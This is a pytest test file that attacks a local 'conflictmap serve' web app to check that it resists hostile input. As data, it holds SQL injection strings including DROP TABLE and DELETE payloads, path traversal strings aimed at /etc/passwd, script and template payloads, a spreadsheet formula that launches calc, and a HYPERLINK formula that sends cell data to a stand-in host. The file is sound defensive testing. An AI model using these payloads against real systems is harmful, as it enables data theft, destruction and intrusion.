"""Hostile requests against a real ``conflictmap serve`` on loopback: SQL injection through
every parameter of every read, path traversal, oversized and malformed uploads, writes
without the token, other Host names, and script or formula payloads in ingested reports.
Each is refused or inert, and the store is the same after as before."""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from conftest import free_port
from lxml import etree

from conflictmap.store.repository import Store

pytestmark = pytest.mark.slow

TOKEN = "hostile-token-0123456789abcdef"
BENIGN = "qqzx-no-such-value"
SQL_PAYLOADS = (
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE documents; --",
    "x' UNION SELECT id, text, title FROM documents --",
    "'); DELETE FROM events; --",
    "1) OR (1=1",
    "' AND 1=(SELECT count(*) FROM sqlite_master) --",
    "'; SELECT pg_sleep(5); --",
    "admin'/*",
    "%",
    "_",
    "%' OR '%'='",
    "*",
    "' OR 'x'='x' \x00",
    "\\' OR 1=1 #",
)
TRAVERSALS = (
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "vendor/../../../../pyproject.toml",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fpyproject.toml",
    "..%c0%af..%c0%afetc%c0%afpasswd",
)
LEAKS = ("root:x:0:0", "[project]", "def create_app", "[extensions]", "SQLite format 3")
SCRIPT_PAYLOADS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload=alert(1)>',
    "javascript:alert(document.cookie)",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "]]><evil/><![CDATA[",
)
FORMULAS = ('=HYPERLINK("http://example.invalid/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0")


@pytest.fixture(scope="module")
def server(examples_db: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    """``conflictmap serve`` over a copy of the examples store, with a write token."""
    db = tmp_path_factory.mktemp("hostile") / "store.db"
    shutil.copy(examples_db, db)
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "conflictmap.cli", "--db", str(db), "serve", "--port", str(port)],
        env={**os.environ, "CONFLICTMAP_TOKEN": TOKEN},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if httpx.get(f"{base}/api/config", timeout=2).status_code == 200:
                break
        except httpx.TransportError:
            time.sleep(0.2)
    else:
        process.kill()
        pytest.fail(f"conflictmap serve did not start: {process.stderr.read().decode()[-2000:]}")
    try:
        with httpx.Client(base_url=base, timeout=30) as client:
            yield {
                "client": client,
                "db": db,
                "port": port,
                "spec": client.get("/openapi.json").json(),
            }
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()


def fingerprint(db: Path) -> str:
    """A digest of everything the store holds."""
    with Store(f"sqlite:///{db}") as store:
        return hashlib.sha256(json.dumps(store.export(), sort_keys=True).encode()).hexdigest()


def _parameters(spec: dict) -> Iterator[tuple[str, dict, dict]]:
    """(path template, operation's parameters by name, one parameter) of every GET."""
    for path, operations in spec["paths"].items():
        operation = operations.get("get")
        if not operation:
            continue
        parameters = {p["name"]: p for p in operation.get("parameters", [])}
        for parameter in parameters.values():
            yield path, parameters, parameter


def _is_text(parameter: dict) -> bool:
    schema = parameter["schema"]
    options = schema.get("anyOf", [schema])
    return any(o.get("type") == "string" and "format" not in o for o in options)


def _request(client: httpx.Client, path: str, parameter: dict, value: str) -> httpx.Response:
    if parameter["in"] == "path":
        return client.get(path.replace("{" + parameter["name"] + "}", _quote(value)))
    return client.get(path.replace("{", "").replace("}", ""), params={parameter["name"]: value})


def _quote(value: str) -> str:
    return quote(value, safe="")


def _swap(value: Any, payload: str, instead: str = BENIGN) -> Any:
    """The response with the payload, where echoed in a value, written as ``instead`` (a
    payload of one or two characters is too short to tell an echo)."""
    if len(payload) < 3:
        return value
    if isinstance(value, str):
        return value.replace(payload, instead)
    if isinstance(value, list):
        return [_swap(v, payload, instead) for v in value]
    if isinstance(value, dict):
        return {k: _swap(v, payload, instead) for k, v in value.items()}
    return value


def _words(payload: str) -> str:
    """The payload's words, without the quotes, operators and comment marks around them."""
    return " ".join(re.findall(r"[^\W_]+", payload))


def _body(response: httpx.Response) -> Any:
    if "json" in response.headers.get("content-type", ""):
        return response.json()
    return response.text


def test_sql_injection_through_every_parameter(server: dict) -> None:
    """Every parameter of every read, each payload: never a server error; refused (400, 404,
    422), or answered exactly as a value that matches nothing, or as the payload's words
    alone (the payload is data, never SQL, and wildcards match nothing); typed parameters
    refuse it; the store is unchanged."""
    client, spec = server["client"], server["spec"]
    before = fingerprint(server["db"])
    tried = 0
    for path, _, parameter in _parameters(spec):
        if path.startswith("/api/export"):
            continue  # an enum: covered by the traversal test
        baseline = _request(client, path, parameter, BENIGN)
        for payload in SQL_PAYLOADS:
            response = _request(client, path, parameter, payload)
            tried += 1
            where = f"{path} {parameter['name']}={payload!r}: {response.status_code}"
            assert response.status_code < 500, where
            if not _is_text(parameter) or response.status_code in (400, 404, 422):
                assert response.status_code in (400, 404, 422), where  # refused
                continue
            body = _body(response)
            if response.status_code == 200 == baseline.status_code and _swap(
                body, payload
            ) == _body(baseline):
                continue
            # a search reads words: the payload must answer as its words alone would
            plain = _words(payload) or BENIGN
            words = _request(client, path, parameter, plain)
            assert response.status_code == words.status_code == 200, where
            assert _swap(body, payload, plain) == _body(words), where
    assert tried >= 300
    assert fingerprint(server["db"]) == before


def _raw_get(port: int, target: str) -> tuple[int, str, bytes]:
    """A GET with the request target sent exactly as written (clients normalise ``..``):
    status, content type and body."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest("GET", target, skip_accept_encoding=True)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, response.getheader("content-type", ""), response.read()
    finally:
        connection.close()


def test_path_traversal_reaches_no_file(server: dict) -> None:
    """Every path segment and parameter that could name a file, with traversal forms:
    nothing outside the static folder is ever sent back."""
    prefixes = ("/static/", "/static/vendor/", "/", "/api/documents/", "/api/export/")
    prefixes += ("/api/control/", "/api/leaders/", "/api/entities/", "/api/events/")
    tried = 0
    for prefix in prefixes:
        for attack in TRAVERSALS:
            status, kind, body = _raw_get(server["port"], prefix + attack)
            tried += 1
            text = body.decode("utf-8", "replace")
            assert not any(leak in text for leak in LEAKS), (prefix + attack, status)
            # refused, or (an API path) answered in JSON about a name that matches nothing
            answered = status == 200 and prefix.startswith("/api/") and "json" in kind
            assert answered or status in (400, 404, 405, 422), (prefix + attack, status)
    for path, _, parameter in _parameters(server["spec"]):
        if parameter["in"] == "query":
            for attack in TRAVERSALS[:3]:
                response = _request(server["client"], path, parameter, attack)
                tried += 1
                assert not any(leak in response.text for leak in LEAKS), (path, attack)
    assert tried >= 100
    assert _raw_get(server["port"], "/static/app.js")[0] == 200  # the folder itself is served


WRITES = (
    ("/api/ingest", {"text": "Rebels attacked the town of Sarki on Monday, officials said."}),
    ("/api/entities/merge", {"keep": 1, "absorb": 2}),
    ("/api/entities/split", {"entity": 1, "names": ["x"]}),
)
BAD_AUTH = (
    {},
    {"Authorization": "Bearer wrong-token"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"},
    {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"bearer {TOKEN.upper()}"},
    {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": TOKEN},
    {"Authorization": "Bearer"},
    {"Authorization": "Bearer \u00e9t\u00e9".encode("latin-1")},
    {"X-Token": TOKEN},
    {"Cookie": f"token={TOKEN}"},
)


def test_writes_without_the_token_are_refused(server: dict) -> None:
    client = server["client"]
    before = fingerprint(server["db"])
    tried = 0
    for path, body in WRITES:
        for headers in BAD_AUTH:
            response = client.post(path, json=body, headers=headers)
            tried += 1
            assert response.status_code in (401, 403), (path, headers, response.status_code)
        response = client.post(f"{path}?token={TOKEN}", json=body)  # not in the query either
        assert response.status_code in (401, 403), path
        tried += 1
    assert tried == len(WRITES) * (len(BAD_AUTH) + 1)
    assert fingerprint(server["db"]) == before


def test_other_host_names_are_refused(server: dict) -> None:
    """A page on another site cannot reach the loopback server by DNS rebinding."""
    for host in ("evil.example", "127.0.0.1.evil.example", "localhost:80@evil.example"):
        response = server["client"].get("/api/config", headers={"Host": host})
        assert response.status_code == 400, host


def test_oversized_and_malformed_uploads_are_refused(server: dict) -> None:
    client = server["client"]
    auth = {"Authorization": f"Bearer {TOKEN}"}
    before = fingerprint(server["db"])
    big = "Rebels attacked the town. " * 50_000  # 1.3 MB: over the 1 MB body limit
    assert client.post("/api/ingest", json={"text": big}, headers=auth).status_code == 413

    def chunks() -> Iterator[bytes]:  # no Content-Length: the limit holds as the body is read
        yield b'{"text": "'
        for _ in range(300):
            yield b"x" * 8192
        yield b'"}'

    response = client.post(
        "/api/ingest", content=chunks(), headers={**auth, "content-type": "application/json"}
    )
    assert response.status_code == 413
    malformed = (
        b"{" * 100_000,
        b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"text": "\xff\xfe"}',
        b'{"text": 5}',
        b'{"text": ""}',
        b"not json at all",
        b'{"text": "ok", "id": "' + b"i" * 500 + b'"}',
    )
    for body in malformed:
        response = client.post(
            "/api/ingest", content=body, headers={**auth, "content-type": "application/json"}
        )
        assert response.status_code in (400, 413, 422), (body[:40], response.status_code)
    assert fingerprint(server["db"]) == before


def _ingest(client: httpx.Client, **report: str) -> dict:
    response = client.post("/api/ingest", json=report, headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 200, response.text
    return response.json()


def test_script_and_formula_payloads_are_inert(server: dict) -> None:
    """Reports carrying script, markup, template and formula payloads in every field are
    stored as text: JSON answers are JSON with nosniff, pages run under a strict CSP, the XML
    exports parse with no injected element, and no CSV cell starts a formula."""
    client = server["client"]
    stored: list[str] = []
    for number, payload in enumerate(SCRIPT_PAYLOADS + FORMULAS):
        done = _ingest(
            client,
            title=payload,
            source=payload,
            url=payload,
            text=(
                f"{payload} Gunmen attacked a police post in the town of Sarki on Monday, "
                f"killing {number + 2} officers, an official said. {payload}"
            ),
        )
        assert done["stored"] + done["near_duplicates"] == 1, done
        stored.append((done["documents"] or list(done["near_duplicates_of"]))[0])
    page = client.get("/")
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "object-src 'none'" in csp and "frame-ancestors 'none'" in csp
    document = client.get(f"/api/documents/{stored[0]}")
    assert document.headers["content-type"].startswith("application/json")
    assert document.headers["x-content-type-options"] == "nosniff"
    assert document.json()["title"] == SCRIPT_PAYLOADS[0]  # kept as text, not stripped

    for fmt in ("graphml", "gexf"):
        tree = etree.fromstring(client.get(f"/api/export/{fmt}").content)
        names = {etree.QName(e).localname for e in tree.iter() if isinstance(e.tag, str)}
        assert not names & {"script", "svg", "img", "evil"}, fmt
    for fmt in ("json", "stix", "geojson"):
        json.loads(client.get(f"/api/export/{fmt}").content)
    rows = list(csv.reader(io.StringIO(client.get("/api/export/acled-csv").text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the payload is there, as text
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            float(cell)  # only numbers may start so
